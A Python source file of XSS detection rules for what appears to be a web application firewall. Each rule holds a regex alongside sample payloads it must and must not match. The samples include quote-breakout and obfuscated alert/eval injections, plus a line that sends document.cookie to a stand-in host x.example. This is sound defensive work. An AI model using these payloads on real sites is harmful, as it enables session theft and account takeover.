"""Script injection (CWE-79) without markup: the value lands inside of a script, or of a sink that evaluates it.

The name of a function is a word of every developer's sentence: a rule wants the quote that the value leaves behind, an
argument that only a proof has, or a way of writing that only hides something.
Must never hold a row of somebody else's collection; every example was written for its rule.
"""

from __future__ import annotations

from typing import Final

from asgi_guard.inspection.rule import Rule

_SHOW: Final = "(?:alert|confirm|prompt)"
_RUN: Final = "(?:alert|confirm|prompt|eval|settimeout|setinterval|execscript)"
_GLOBALS: Final = "(?:window|self|top|parent|frames|globalthis|this|document|content)"

RULES: Final[tuple[Rule, ...]] = (
    Rule(
        id="AG-XSS-030",
        attack="xss",
        score=5,
        level=1,
        pattern=rf"^[^\"'`]{{0,60}}[\"'`]{{1,2}}[\s)\]}}]{{0,8}}(?:[;,+\-*/%^&|<>=?:!~\n]{{1,4}}|in\b|instanceof\b)[\s(!+~{{\[-]{{0,8}}"
        rf"(?:(?:window|self|top|parent|globalthis)\.)?(?:{_RUN}[\s)]{{0,4}}(?:\(|`|\?\.|/\*)|"
        r"(?:fetch|import)\(|document\.(?:cookie|write|location|domain)|(?:window\.)?location(?:\.href)?\s?=)",
        needs=(
            "alert",
            "confirm",
            "prompt",
            "eval",
            "settimeout",
            "setinterval",
            "execscript",
            "fetch(",
            "import(",
            "document.",
            "location",
        ),
        why="The value ends the text that it was written into, and goes on as code.",
        positives=(
            "';alert(1)//",
            '"-confirm`1`-"',
            "'+window.eval(name)+'",
            '"; location="//x.example',
            "' in prompt(1)",
        ),
        negatives=("'yes' - alert him", '"a", alert', "'x', and prompt (again)", '{"a":"location = b"}'),
    ),
    Rule(
        id="AG-XSS-031",
        attack="xss",
        score=5,
        level=1,
        pattern=rf"\b{_SHOW}\s{{0,4}}[(`]\s{{0,4}}[\"'`/(\\]{{0,3}}(?:document\s?(?:\[|\.\s?(?:cookie|domain|location|body|url|documentelement))|(?:window\.)?(?:location|origin)\b|"
        r"x ?ss\b|string\.fromcharcode|unescape\(|atob\(|"
        r"-?\d{1,9}[\"'`/\\]{0,3}\s?[)`](?:$|\s{0,3}[^\s\w.,`(])|(?:top|self|parent)[.\[])",
        needs=("alert", "confirm", "prompt"),
        why="The call that shows that a script has run, with what it shows.",
        positives=(
            "alert(document.cookie)",
            "prompt(1)",
            "confirm('XSS')",
            "confirm`4`",
            "alert(String.fromCharCode(49))",
        ),
        negatives=("alert('saved')", "an alert (1 of 3)", "prompt(user)", "confirm(order.id)"),
        views=("plain", "sql"),
    ),
    Rule(
        id="AG-XSS-032",
        attack="xss",
        score=5,
        level=1,
        pattern=r"\b(?:eval|execscript)\s?[(`]\s?[\"'`(]{0,3}(?:atob|unescape|decodeuri(?:component)?|string\s?\.\s?fromcharcode|"
        r"location|window\.name|name\)|document\.|self\.|top\.|alert\b|confirm\b|prompt\b|\\[xu0-9]|/\w{1,20}/\.source)|"
        r"\b(?:settimeout|setinterval|function)\s?[(`]\s?[\"'`(]{0,3}(?:(?:alert|confirm|prompt|eval|atob|unescape|"
        r"string\.fromcharcode)[(`]|\\[xu0-9])",
        needs=("eval", "settimeout", "setinterval", "execscript", "function"),
        why="A text is evaluated that was hidden, or that comes from the address.",
        positives=("eval(atob('YWxlcnQ='))", "setTimeout('alert(1)')", "eval(location.hash.slice(1))"),
        negatives=("eval(expression)", "setTimeout(callback, 5)", "function(name, age)"),
    ),
    Rule(
        id="AG-XSS-033",
        attack="xss",
        score=5,
        level=1,
        pattern=rf"\b{_GLOBALS}\[\s?(?:[\"'`][\w\\]{{0,12}}[\"'`]\s?\+|/\w{{1,12}}/\.source|[\"'`](?:alert|eval|"
        r"confirm|prompt|\\x|\\u)|\d{4,12}\s?[).]|\(?\+?!?\[)|(?:^|[^`\w])"
        rf"{_RUN}`[^`\s]{{1,60}}`|\(\s?{_RUN}\s?\)\s?[(`]|\.\s?(?:find|map|filter|foreach|some|every|call|apply|bind|replace|"
        rf"sort|reduce)\s?[(`]\s?(?:\$\{{\s?)?{_RUN}\b|\b\w{{1,12}}\s?=\s?(?:alert|eval|confirm|prompt)\s?;|[\"'`](?:al|ale|aler)[\"'`]\s?\+\s?[\"'`]",
        needs=(
            "window[",
            "self[",
            "top[",
            "parent[",
            "frames[",
            "this[",
            "document[",
            "content[",
            "alert",
            "confirm",
            "prompt",
            "eval",
            "settimeout",
            "setinterval",
            "execscript",
            "'al",
            '"al',
            "`al",
        ),
        why="A function is called by a name in pieces, or by something else than a call.",
        positives=(
            "self['al'+'ert'](1)",
            "(alert)(1)",
            "[1].find(alert)",
            "self[/*x*/'alert'](1)",
            "a=eval;a(name)",
            "x=prompt`1`",
            "top[/al/.source+'x']",
        ),
        negatives=("window['name']", "the `alert` and `confirm` calls", "this[key] = 1", "[1, 2].map(String)"),
        views=("plain", "sql"),
    ),
    Rule(
        id="AG-XSS-034",
        attack="xss",
        score=5,
        level=1,
        pattern=r"constructor[\"'`\]\s]{0,4}[.\[][\s\"'`]{0,4}constructor|\.constructor\s?[(`]\s?[\"'`]|"
        r"\[[\"'`]constructor[\"'`]\]\s?[(\[`]|[\[\]()!+]{40}|!\[\][\s+]{1,3}\[\]",
        needs=("constructor", "[]"),
        why="Code is made of a text by the constructor of functions, or of nothing but brackets.",
        positives=(
            "[].constructor.constructor('x')()",
            "''['constructor']('x')",
            "(![]+[])[+[]]",
            "f.constructor(`x`)",
        ),
        negatives=("the constructor of the constructor", "new Foo.constructor()", "a[] + b[]"),
    ),
    Rule(
        id="AG-XSS-035",
        attack="xss",
        score=5,
        level=1,
        pattern=r"string\s?\.\s?fromcharcode\s?\(\s?(?:0x)?[0-9a-f]{1,4}\s?,\s?(?:0x)?[0-9a-f]{1,4}\s?,|"
        r"document\s?\.\s?write(?:ln)?\s?\(\s?[\"'`]?\s?(?:<|\\x3c|\\u003c|unescape|string\.|atob)|"
        r"=[\"'`]\s?\+\s?(?:escape\(|btoa\(|encodeuri(?:component)?\()?document\s?\.\s?cookie|"
        r"\blocation(?:\.href)?\s?=\s?[\"'`]?\s?(?:javascript:|data:|name\b)|"
        r"\bimport\s?\(\s?[\"'`/]?(?:https?:)?//|\bonerror\s?=\s?(?:alert|eval|confirm|prompt)\b|"
        r"\bwith\s?\(\s?document\s?\)|\$\{\s?(?:alert|confirm|prompt|eval)\s?[(`]",
        needs=("fromcharcode", "document", "location", "import", "onerror", "${"),
        why="A script writes markup, sends cookies away, or loads and runs something.",
        positives=(
            "String.fromCharCode(88,83,83)",
            "document.write('<img src=//x.example/?'+1)",
            "new Image().src='//x.example/?c='+document.cookie",
            "location='javascript:x'",
            "${alert(1)}",
            "onerror=eval;throw'=1'",
        ),
        negatives=(
            "String.fromCharCode(code)",
            "document.write is deprecated",
            "location = name_of_place",
            "`${count}`",
        ),
    ),
    Rule(
        id="AG-XSS-036",
        attack="xss",
        score=5,
        level=2,
        pattern=r"\.cookie\b[^;]{0,60};\W{0,8}(?:expires|domain|path|max-age)\W{0,4}=|\bdocument\s?\.\s?cookie\s?=\s?[\"'`]",
        needs=(".cookie",),
        why="A script sets the cookie of a session that the attacker knows.",
        positives=("document.cookie='sid=1;path=/'", "x.cookie='a=b; domain=.example.com'"),
        negatives=("document.cookie is read", "req.cookie; res.end"),
    ),
)
